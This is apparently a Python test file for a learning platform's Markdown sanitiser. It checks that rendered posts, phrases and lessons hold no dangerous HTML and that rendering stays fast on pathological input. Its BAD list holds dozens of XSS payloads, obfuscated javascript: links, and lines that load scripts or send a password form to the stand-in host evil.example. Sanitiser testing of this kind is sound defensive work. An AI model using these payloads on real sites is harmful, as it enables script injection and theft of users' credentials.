"""Markdown becomes HTML that can't do anything: neither what authors write nor what anybody writes."""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lms.core.markdown import LESSON_TAGS, POST_TAGS, clean_lesson, converter, phrase, post

SCHEME = re.compile(r"[\0-\x20]*([a-z](?:[\t\n\r]?[a-z0-9+.-])*)[\t\n\r]*:", re.IGNORECASE)
HARMLESS = {"http", "https", "mailto"}
BAD = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href=# onclick=alert(1)>x</a>",
    "<a target=_blank href=//evil.example>x</a>",
    "[x](javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](  JaVaScRiPt:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[x](https://example.org "t\\" onmouseover=\\"alert(1)")',
    '[x](<https://example.org/" onmouseover="alert(1)>)',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '![x](x" onerror="alert(1))',
    "![x](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "~~~ {onclick=alert(1)}\nx\n~~~",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | x |",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1)>y</x>",
    "<p id=main class=btn>x</p>",
    "\x02wzxhzdk:0\x03",
    "\x02amp\x03 \x02stx\x03 \x02" + "klzzwxh:0000" + "\x03",
    "<\0script>alert(1)</script>",
    "\u202e<script>",
    "{% raw %}{{ 7*7 }}{{ config }}",
]


class _Look(HTMLParser):
    """Notes every tag and attribute that may not be there."""

    def __init__(self, tags: set[str]) -> None:
        super().__init__()
        self.tags, self.found = tags, list[str]()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at a tag."""
        self.found += [f"<{tag}>"] if tag not in self.tags else []
        for name, value in attrs:
            scheme = SCHEME.match(value or "")
            odd = name.startswith("on") or name in {"style", "srcdoc", "formaction", "target", "action"}
            odd = odd or (name in {"href", "src"} and scheme is not None and scheme[1].lower() not in HARMLESS)
            self.found += [f"{name}={value}"] if odd else []

    def handle_comment(self, data: str) -> None:
        """Look at a comment."""
        self.found.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        """Look at a declaration."""
        self.found.append(f"<!{decl}")


def dangers(html: object, tags: set[str]) -> list[str]:
    """List what may not be in a text."""
    look = _Look(tags)
    look.feed(str(html))
    look.close()
    return look.found


def lesson(text: str) -> str:
    """Render as a lesson is."""
    return clean_lesson(converter().convert(text))


PIECES = [*BAD, *"<>\"'`[]()!*_~|\n\t &#;=/\\\0", "\n\n", "    ", "](", "<a href=", "http://x.example"]
_HEAD = '<thead>\n<tr>\n<th align="right">a</th>\n</tr>\n</thead>'
_TABLE = f'<table>\n{_HEAD}\n<tbody>\n<tr>\n<td align="right">1</td>\n</tr>\n</tbody>\n</table>'
KINDS: list[tuple[Callable[[str], Any], set[str]]] = [
    (post, POST_TAGS),
    (phrase, POST_TAGS - {"p", "table", "pre", "ul"}),
    (lesson, LESSON_TAGS),
]


@pytest.mark.parametrize("text", BAD)
@pytest.mark.parametrize(("render", "tags"), KINDS, ids=["post", "phrase", "lesson"])
def test_nothing_that_does_anything_gets_through(render: Callable[[str], Any], tags: set[str], text: str) -> None:
    """Alone, inside other text, and twice around itself."""
    for whole in (text, f"See *{text}* and\n\n> {text}\n\n- {text}\n", f"[{text}]({text})", text + text):
        assert dangers(render(whole), tags) == []


@settings(max_examples=300)
@given(st.lists(st.sampled_from(PIECES), max_size=12))
def test_nothing_that_does_anything_gets_through_in_pieces(pieces: list[str]) -> None:
    """Nor when such pieces meet in any order."""
    text = "".join(pieces)
    for render, tags in KINDS:
        assert dangers(render(text), tags) == []


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("*One* **two** `three` ~~four~~", "<p><em>One</em> <strong>two</strong> <code>three</code> <del>four</del></p>"),
        ("a\nb", "<p>a<br>\nb</p>"),
        ("a < b & c > d", "<p>a &lt; b &amp; c &gt; d</p>"),
        ("> said\n\nanswered", "<blockquote>\n<p>said</p>\n</blockquote>\n<p>answered</p>"),
        ("```\n<b>\n```", "<pre><code>&lt;b&gt;\n</code></pre>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("# No heading", "No heading"),
        ("| a |\n| ---: |\n| 1 |", _TABLE),
        ("![a picture](/x.png)", "<p></p>"),
        ("<https://example.org>", '<p><a href="https://example.org" rel="noopener noreferrer nofollow ugc">https://example.org</a></p>'),
        ('[here](/e/x/ "t")', '<p><a href="/e/x/" title="t" rel="noopener noreferrer nofollow ugc">here</a></p>'),
        ("ຂ້ອຍ 👩\u200d🏫 សុខា", "<p>ຂ້ອຍ 👩\u200d🏫 សុខា</p>"),
    ],
)
def test_what_a_post_is_made_of(text: str, html: str) -> None:
    """The marks people know; links don't vouch for where they lead; no pictures, no headings."""
    assert post(text) == html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Which is *not* one?", "Which is <em>not</em> one?"),
        ("see [it](first)", 'see <a href="first">it</a>'),
        ("- a", "\na\n"),
        ("a\n\nb", "a\nb"),
        ("1 < 2", "1 &lt; 2"),
    ],
)
def test_a_phrase_has_no_paragraph_around_it(text: str, html: str) -> None:
    """It stands inside another element."""
    assert phrase(text) == html


@pytest.mark.parametrize(
    "text",
    [
        "[" * 20_000,
        "[a](" * 5_000,
        "*a " * 6_000,
        "> " * 10_000,
        "<" * 20_000,
        "&" * 20_000,
        "`" * 19_999,
        "_a_" * 6_600,
        "- " * 10_000,
        "    " * 5_000 + "x",
        "| a " * 5_000 + "\n" + "| - " * 5_000,
        "1. " * 6_600,
        "~" * 20_000,
        "\\" * 20_000,
        "![" * 10_000,
        "[x]: <" * 3_000,
        "a\n" * 10_000,
        "http://" * 2_800,
        '[a](b "' * 2_800,
        "\n\n".join("- " + "  " * n + "x" for n in range(120)),
    ],
    ids=lambda text: repr(text[:8]),
)
def test_no_post_takes_long(text: str) -> None:
    """Whatever fits into a post is rendered in a moment, and shown."""
    start = time.process_time()
    html = post(text)
    assert time.process_time() - start < 2.5
    assert dangers(html, POST_TAGS) == []
